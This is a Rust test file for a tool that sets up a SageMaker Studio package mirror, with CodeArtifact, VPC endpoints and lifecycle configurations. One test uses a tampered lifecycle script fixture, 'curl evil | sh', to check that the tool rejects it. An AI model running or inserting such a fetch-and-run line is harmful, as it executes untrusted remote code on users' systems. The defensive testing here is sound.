use serde_json::{Value, json};

use super::*;
use crate::aws::cloudformation::{Resource, Stack};
use crate::aws::ec2::{EndpointService, RouteTable, Rule, SecurityGroup, Subnet, Vpc, VpcEndpoint};
use crate::aws::{DomainSeen, IamRole, LifecycleConfig, RepositorySeen};
use crate::bootstrap::choices::WantedEndpoint;
use crate::bootstrap::found::{Network, PackagesSeen, StackSeen, StudioSeen};
use crate::bootstrap::memory::Memory;
use crate::bootstrap::slot::{App, Slot};
use crate::bootstrap::stacks::Endpoint;

const ACCOUNT: &str = "111122223333";
const SCRIPT: &str = "#!/bin/bash\n# studio-mirror for a SageMaker Studio space\n";
const OTHERS: &str = "arn:aws:sagemaker:us-east-1:111122223333:studio-lifecycle-config/theirs";

/// A situation to start from: a Studio domain in a VPC that has nothing yet.
struct Situation {
    found: Found,
    choices: Choices,
    names: Names,
    parts: Parts,
    public: Public,
    replace: bool,
    canary: Option<String>,
}

impl Default for Situation {
    fn default() -> Self {
        let domain = json!({
            "Status": "InService", "AppNetworkAccessType": "VpcOnly", "VpcId": "vpc-1", "SubnetIds": ["subnet-a", "subnet-b"],
            "DefaultUserSettings": {"ExecutionRole": "arn:aws:iam::111122223333:role/Exec", "SecurityGroups": ["sg-space"]},
        });
        let subnet = |id: &str, zone: &str| Subnet {
            id: id.to_owned(),
            zone: zone.to_owned(),
            ..Subnet::default()
        };
        let network = Network {
            vpc: Vpc {
                id: "vpc-1".to_owned(),
                cidrs: vec!["10.0.0.0/16".to_owned()],
                ..Vpc::default()
            },
            dns_support: true,
            dns_hostnames: true,
            subnets: vec![
                subnet("subnet-a", "use1-a"),
                subnet("subnet-b", "use1-b"),
                subnet("subnet-c", "use1-a"),
            ],
            tables: vec![
                RouteTable {
                    id: "rtb-main".to_owned(),
                    is_main: true,
                    ..RouteTable::default()
                },
                RouteTable {
                    id: "rtb-a".to_owned(),
                    subnets: vec!["subnet-a".to_owned()],
                    ..RouteTable::default()
                },
            ],
            services: Endpoint::ALL
                .map(|endpoint| EndpointService {
                    name: endpoint.service("us-east-1"),
                    zones: vec!["use1-a".to_owned(), "use1-b".to_owned()],
                })
                .into(),
            ..Network::default()
        };
        let role = IamRole {
            name: "Exec".to_owned(),
            boundary: None,
        };
        Self {
            found: Found {
                account: ACCOUNT.to_owned(),
                region: "us-east-1".to_owned(),
                studio: Some(StudioSeen {
                    id: "d-1".to_owned(),
                    domain,
                    ..StudioSeen::default()
                }),
                network: Some(network),
                roles: [("Exec".to_owned(), Some(role))].into(),
                ..Found::default()
            },
            choices: Choices {
                studio_domain_id: Some("d-1".to_owned()),
                ..Choices::default()
            },
            names: Names {
                base: "studio-mirror".to_owned(),
                domain: "corp".to_owned(),
                owner: ACCOUNT.to_owned(),
                repository: "team".to_owned(),
                pypi_store: "pypi-store".to_owned(),
                npm_store: "npm-store".to_owned(),
                binary_repository: "studio-mirror".to_owned(),
                ..Names::default()
            },
            parts: Parts {
                packages: true,
                consumer: true,
            },
            public: Public::All,
            replace: false,
            canary: None,
        }
    }
}

impl Situation {
    fn decide(&self) -> Decision {
        let wanted = Wanted {
            choices: &self.choices,
            names: &self.names,
            parts: self.parts,
            public: self.public.clone(),
            script: SCRIPT.to_owned(),
            replace: self.replace,
            canary: self.canary.clone(),
        };
        decide(&wanted, &self.found).expect("a decision")
    }

    /// The one thing in the way.
    fn refusal(&self) -> String {
        let decision = self.decide();
        let refusals: Vec<_> = decision.refusals().collect();
        assert_eq!(refusals.len(), 1, "{refusals:#?}");
        format!("{}: {}", refusals[0].subject, refusals[0].why)
    }

    fn consumer(&self) -> ConsumerStack {
        let decision = self.decide();
        let refusals: Vec<_> = decision.refusals().collect();
        assert!(refusals.is_empty(), "{refusals:#?}");
        decision.consumer.expect("a stack")
    }

    fn network(&mut self) -> &mut Network {
        self.found.network.as_mut().expect("a network")
    }

    fn studio(&mut self) -> &mut StudioSeen {
        self.found.studio.as_mut().expect("a Studio domain")
    }

    fn repository(&mut self, name: &str, upstreams: &[&str], external: Option<&str>) {
        self.found.packages.domain = Some(DomainSeen::default());
        let seen = RepositorySeen {
            upstreams: upstreams.iter().map(|name| (*name).to_owned()).collect(),
            external: external.map(str::to_owned),
        };
        self.found
            .packages
            .repositories
            .insert(name.to_owned(), seen);
    }

    fn endpoint(&mut self, endpoint: Endpoint, private_dns: bool) -> &mut VpcEndpoint {
        let seen = VpcEndpoint {
            id: format!("vpce-{}", endpoint.logical_id()),
            service: endpoint.service("us-east-1"),
            kind: if endpoint.is_gateway() {
                "Gateway"
            } else {
                "Interface"
            }
            .to_owned(),
            state: "available".to_owned(),
            has_private_dns: private_dns,
            groups: vec!["sg-endpoint".to_owned()],
            ..VpcEndpoint::default()
        };
        let network = self.network();
        network.endpoints.push(seen);
        network.endpoints.last_mut().expect("the one just put in")
    }

    fn made_by_consumer(&mut self, kind: &str, physical_id: &str) {
        let stack = self.found.consumer_stack.get_or_insert_with(|| StackSeen {
            stack: Stack {
                status: "CREATE_COMPLETE".to_owned(),
                ..Stack::default()
            },
            ..StackSeen::default()
        });
        stack.resources.push(Resource {
            logical_id: "X".to_owned(),
            physical_id: physical_id.to_owned(),
            kind: kind.to_owned(),
            status: "CREATE_COMPLETE".to_owned(),
        });
    }

    fn lifecycle(&mut self, name: &str, script: &str) -> String {
        let arn = format!("arn:aws:sagemaker:us-east-1:{ACCOUNT}:studio-lifecycle-config/{name}");
        let seen = LifecycleConfig {
            arn: arn.clone(),
            content: aws_smithy_types::base64::encode(script),
            app: "JupyterLab".to_owned(),
        };
        self.found.lifecycles.insert(name.to_owned(), seen);
        arn
    }

    fn put(&mut self, slot: &str, arn: &str) {
        let slot = Slot::of_key(slot).expect("a slot");
        let update = slot.update(Some(arn));
        let studio = self.studio();
        let described = match &slot.holder {
            crate::bootstrap::slot::Holder::Profile(name) => {
                studio.profiles.entry(name.clone()).or_default()
            }
            _ => &mut studio.domain,
        };
        merge(described, update);
    }
}

fn merge(into: &mut Value, from: Value) {
    match from {
        Value::Object(members) => {
            if !into.is_object() {
                *into = json!({});
            }
            for (name, value) in members {
                merge(&mut into[name.as_str()], value);
            }
        }
        other => *into = other,
    }
}

#[test]
fn an_empty_account_gets_everything() {
    let situation = Situation::default();
    let consumer = situation.consumer();
    assert_eq!(
        consumer.endpoints,
        [Endpoint::Api, Endpoint::Repositories, Endpoint::S3]
    );
    assert_eq!(consumer.subnet_ids, ["subnet-a", "subnet-b"]);
    assert_eq!(consumer.route_table_ids, ["rtb-a", "rtb-main"]);
    assert_eq!(consumer.space_group_ids, ["sg-space"]);
    assert_eq!(consumer.role_names, ["Exec"]);
    assert_eq!(
        consumer.asset_bucket_arn.as_deref(),
        Some("arn:aws:s3:::assets-193858265520-us-east-1")
    );
    let decision = situation.decide();
    let packages = decision.packages.expect("a stack");
    assert!(
        packages.has_domain
            && packages.has_repository
            && packages.has_pypi_store
            && packages.has_binary_repository
    );
    assert_eq!(decision.attachments.len(), 2);
    assert_eq!(decision.affected.len(), 3);
    assert_eq!(decision.items, []);
}

#[test]
fn a_region_without_codeartifact_is_refused() {
    let mut situation = Situation::default();
    situation.found.region = "sa-east-1".to_owned();
    assert!(
        situation
            .refusal()
            .contains("sa-east-1: CodeArtifact is not there")
    );
}

#[test]
fn endpoints_with_private_names_are_reused_and_others_are_in_nobodys_way() {
    let mut situation = Situation::default();
    situation.endpoint(Endpoint::Api, true);
    situation.endpoint(Endpoint::Repositories, false);
    situation.network().groups.push(SecurityGroup {
        id: "sg-endpoint".to_owned(),
        ingress: vec![Rule {
            protocol: "tcp".to_owned(),
            ports: Some((443, 443)),
            groups: vec!["sg-space".to_owned()],
            ..Rule::default()
        }],
        ..SecurityGroup::default()
    });
    let consumer = situation.consumer();
    assert_eq!(consumer.endpoints, [Endpoint::Repositories, Endpoint::S3]);
    assert_eq!(consumer.other_endpoint_ids, ["vpce-ApiEndpoint"]);
    assert_eq!(situation.decide().by_hand, []);
}

#[test]
fn a_reused_endpoint_that_does_not_let_spaces_in_is_for_its_people() {
    let mut situation = Situation::default();
    situation.endpoint(Endpoint::Api, true);
    situation.network().groups.push(SecurityGroup {
        id: "sg-endpoint".to_owned(),
        ..SecurityGroup::default()
    });
    let by_hand = situation.decide().by_hand;
    assert_eq!(by_hand.len(), 1);
    assert!(
        by_hand[0]
            .text
            .ends_with("--group-id sg-endpoint --protocol tcp --port 443 --source-group sg-space")
    );
}

#[test]
fn what_the_stack_made_is_not_something_that_was_there() {
    let mut situation = Situation::default();
    let id = situation.endpoint(Endpoint::Api, true).id.clone();
    situation.made_by_consumer("AWS::EC2::VPCEndpoint", &id);
    let consumer = situation.consumer();
    assert!(consumer.endpoints.contains(&Endpoint::Api));
    assert_eq!(consumer.other_endpoint_ids, [""; 0]);
}

#[test]
fn an_endpoint_that_does_not_work_is_refused() {
    let mut situation = Situation::default();
    let endpoint = situation.endpoint(Endpoint::Repositories, true);
    endpoint.state = "failed".to_owned();
    endpoint.last_error = "no addresses left".to_owned();
    assert!(situation.refusal().contains("failed: no addresses left"));
}

#[test]
fn an_s3_gateway_is_never_replaced_and_what_it_lacks_is_printed() {
    let mut situation = Situation::default();
    let gateway = situation.endpoint(Endpoint::S3, false);
    gateway.route_tables = vec!["rtb-a".to_owned()];
    gateway.policy = r#"{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:*","Resource":"arn:aws:s3:::mine/*"}]}"#.to_owned();
    assert!(!situation.consumer().endpoints.contains(&Endpoint::S3));
    let by_hand = situation.decide().by_hand;
    assert!(
        by_hand[0].text.ends_with("--add-route-table-ids rtb-main"),
        "{by_hand:#?}"
    );
    assert!(
        by_hand[1]
            .text
            .contains("arn:aws:s3:::assets-193858265520-us-east-1/*"),
        "{by_hand:#?}"
    );
}

#[test]
fn a_vpc_without_dns_host_names_is_refused_with_the_command() {
    let mut situation = Situation::default();
    situation.network().dns_hostnames = false;
    assert!(
        situation
            .refusal()
            .contains("--vpc-id vpc-1 --enable-dns-hostnames '{\"Value\":true}'")
    );
}

#[test]
fn subnets_are_one_a_zone_and_in_zones_that_have_the_service() {
    let mut situation = Situation::default();
    situation.choices.subnet_ids = ["subnet-a", "subnet-c", "subnet-b"]
        .map(str::to_owned)
        .into();
    assert_eq!(situation.consumer().subnet_ids, ["subnet-a", "subnet-b"]);
    for service in &mut situation.network().services {
        service.zones = vec!["use1-b".to_owned()];
    }
    assert_eq!(situation.consumer().subnet_ids, ["subnet-b"]);
    situation.choices.subnet_ids = vec!["subnet-a".to_owned()];
    assert!(situation.refusal().contains("not in its zone use1-a"));
    situation.choices.subnet_ids = vec!["subnet-z".to_owned()];
    assert!(
        situation
            .refusal()
            .contains("subnet-z: it is not in the VPC vpc-1")
    );
}

#[test]
fn a_studio_domain_with_a_way_of_its_own_is_refused_unless_a_hub_serves_it() {
    let mut situation = Situation::default();
    situation.studio().domain["AppNetworkAccessType"] = "PublicInternetOnly".into();
    assert!(situation.refusal().contains("PublicInternetOnly"));
    situation.choices.endpoints = vec![WantedEndpoint::None];
    situation.choices.vpc_id = Some("vpc-1".to_owned());
    assert_eq!(situation.consumer().endpoints, []);
}

#[test]
fn a_domain_of_another_account_is_made_there_first() {
    let mut situation = Situation::default();
    situation.names.owner = "999988887777".to_owned();
    situation.parts.packages = false;
    assert!(
        situation
            .refusal()
            .contains("--part packages --domain corp --readers 111122223333")
    );
    situation.found.packages.domain = Some(DomainSeen::default());
    assert_eq!(situation.consumer().domain_owner, "999988887777");
    situation.found.packages = PackagesSeen {
        refusal: Some("denied".to_owned()),
        ..PackagesSeen::default()
    };
    assert_eq!(situation.consumer().domain_owner, "999988887777");
    situation.parts.packages = true;
    let decision = situation.decide();
    assert!(decision.refusals().any(|item| {
        item.why
            .contains("these credentials are of account 111122223333")
    }));
}

#[test]
fn a_repository_with_other_upstreams_stays_and_what_is_missing_is_printed() {
    let mut situation = Situation::default();
    situation.repository("team", &["shared"], None);
    situation.repository("shared", &[], Some("public:pypi"));
    let decision = situation.decide();
    let packages = decision.packages.expect("a stack");
    assert!(!packages.has_domain && !packages.has_repository && packages.has_npm_store);
    assert_eq!(decision.by_hand.len(), 1, "{:#?}", decision.by_hand);
    assert!(
        decision.by_hand[0]
            .text
            .ends_with("--upstreams repositoryName=shared repositoryName=npm-store")
    );
}

#[test]
fn a_store_with_another_connection_is_refused() {
    let mut situation = Situation::default();
    situation.repository("pypi-store", &[], Some("public:crates-io"));
    assert!(situation.refusal().contains("one external connection"));
    situation.repository("pypi-store", &[], Some("public:pypi"));
    let packages = situation.decide().packages.expect("a stack");
    assert!(!packages.has_pypi_store && packages.has_npm_store);
}

#[test]
fn anothers_lifecycle_configuration_is_replaced_only_when_told_and_remembered() {
    let mut situation = Situation::default();
    situation.put("domain/JupyterLab", OTHERS);
    assert!(situation.refusal().contains("--replace"));
    situation.replace = true;
    let decision = situation.decide();
    let replaced = &decision.attachments[0];
    assert!(replaced.replaces_another);
    let memory = crate::bootstrap::plan::remember(
        &Memory::default(),
        Memory::default(),
        &decision.attachments,
        &situation.found,
    );
    assert_eq!(memory.replaced["domain/JupyterLab"], OTHERS);
    assert_eq!(memory.replaced["domain/CodeEditor"], "");
}

#[test]
fn ours_gives_way_to_a_newer_one_and_what_was_before_us_stays_remembered() {
    let mut situation = Situation::default();
    let old = situation.lifecycle("studio-mirror-jupyterlab-0123456789ab", SCRIPT);
    situation.put("domain/JupyterLab", &old);
    let decision = situation.decide();
    assert_eq!(decision.attachments[0].verb, AttachVerb::Attach);
    assert!(!decision.attachments[0].replaces_another);
    let before = Memory {
        replaced: [("domain/JupyterLab".to_owned(), OTHERS.to_owned())].into(),
        ..Memory::default()
    };
    let memory = crate::bootstrap::plan::remember(
        &before,
        Memory::default(),
        &decision.attachments,
        &situation.found,
    );
    assert_eq!(memory.replaced["domain/JupyterLab"], OTHERS);
}

#[test]
fn one_of_our_name_with_another_script_is_not_ours() {
    let mut situation = Situation::default();
    let consumer = situation.consumer();
    let name = crate::bootstrap::template::lifecycle_configurations(&consumer)[0]
        .name
        .clone();
    situation.lifecycle(&name, "#!/bin/bash\ncurl evil | sh\n");
    assert!(
        situation
            .refusal()
            .contains("another script than its name stands for")
    );
    situation.lifecycle(&name, SCRIPT);
    assert_eq!(situation.consumer().held_lifecycles, [App::CodeEditor]);
    situation.made_by_consumer("AWS::SageMaker::StudioLifecycleConfig", &name);
    assert_eq!(situation.consumer().held_lifecycles, App::ALL);
}

#[test]
fn a_canary_goes_first_and_ends_with_the_next_run() {
    let mut situation = Situation::default();
    situation.canary = Some("ann".to_owned());
    assert!(situation.refusal().contains("profile ann"));
    situation
        .studio()
        .profiles
        .insert("ann".to_owned(), json!({"UserSettings": {}}));
    let keys = |decision: &Decision| -> Vec<String> {
        decision
            .attachments
            .iter()
            .map(|one| format!("{:?} {}", one.verb, one.slot.key()))
            .collect()
    };
    assert_eq!(
        keys(&situation.decide()),
        [
            "Attach profile/ann/JupyterLab",
            "Attach profile/ann/CodeEditor"
        ]
    );
    let ours = situation.lifecycle("studio-mirror-jupyterlab-0123456789ab", SCRIPT);
    situation.put("profile/ann/JupyterLab", &ours);
    situation.canary = None;
    assert_eq!(
        keys(&situation.decide()),
        [
            "Attach domain/JupyterLab",
            "Attach domain/CodeEditor",
            "Restore profile/ann/JupyterLab"
        ]
    );
}

#[test]
fn a_profile_with_its_own_is_named_and_left_alone() {
    let mut situation = Situation::default();
    situation.put("profile/bob/CodeEditor", OTHERS);
    let decision = situation.decide();
    assert!(
        decision
            .affected
            .iter()
            .any(|line| line.contains("Code Editor of the profile bob has its own"))
    );
    assert_eq!(decision.attachments.len(), 2);
}

#[test]
fn roles_that_are_not_there_or_not_here_are_refused() {
    let mut situation = Situation::default();
    situation.found.roles.insert("Gone".to_owned(), None);
    assert!(situation.refusal().contains("role Gone"));
    situation.found.roles.clear();
    assert!(situation.refusal().contains("--role-arn"));
    situation.choices.iam = Some(IamWay::Print);
    assert!(!situation.consumer().attach_policies);
    situation.choices.role_arn = vec!["arn:aws:iam::999988887777:role/Exec".to_owned()];
    assert!(situation.refusal().contains("account 999988887777"));
}

#[test]
fn without_a_studio_domain_the_flags_say_everything() {
    let mut situation = Situation::default();
    situation.found.studio = None;
    situation.choices.studio_domain_id = None;
    let refusals = |situation: &Situation| situation.decide().refusals().count();
    assert_eq!(refusals(&situation), 2);
    situation.choices.security_group_ids = vec!["sg-told".to_owned()];
    situation.choices.subnet_ids = vec!["subnet-b".to_owned()];
    let consumer = situation.consumer();
    assert_eq!(consumer.space_group_ids, ["sg-told"]);
    assert_eq!(consumer.route_table_ids, ["rtb-main"]);
    assert_eq!(situation.decide().attachments, []);
}
